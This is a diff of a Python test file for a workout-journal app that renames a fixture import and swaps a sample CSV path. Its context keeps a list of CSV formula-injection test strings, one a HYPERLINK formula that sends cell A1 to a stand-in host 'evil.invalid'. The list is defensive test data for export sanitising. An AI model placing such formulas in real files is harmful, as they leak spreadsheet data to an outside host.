@@ -22,7 +22,7 @@ from journal.io.journal_csv import HEADER, JournalCsv, write_journal_csv
 from journal.storage import repository as repo
 from journal.storage.database import close_database, open_database
 from journal.storage.exercises import create_exercise
-from tests.reliability.support import FIXTURES, REPO, journal_env, run_journal, tree_modes
+from tests.reliability.support import REPO, SAMPLES, journal_env, run_journal, tree_modes
 
 RISKY = ("=", "+", "-", "@", "\t", "\r")
 ATTACKS = ["=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
@@ -122,7 +122,7 @@ def _no_umask() -> None:
 def test_journal_backups_and_exports_are_private_whatever_the_umask(tmp_path: Path, data_dir: Path) -> None:
     folder = tmp_path / "new" / "journal-folder"
     db = folder / "journal.sqlite"
-    hevy = FIXTURES / "hevy" / "ajccosta-hevy-dropset-superset-cardio.head16k.csv"
+    hevy = SAMPLES / "hevy" / "hevy-kg.csv"
     for args in (["demo", "--years", "0.2", "--db", db], ["import", hevy, "--db", db], ["backup", "--db", db],
                  ["backup", "--db", db, "--to", tmp_path / "copy.sqlite"], ["export", tmp_path / "out.csv", "--db", db],
                  ["restore", tmp_path / "copy.sqlite", "--db", db]):
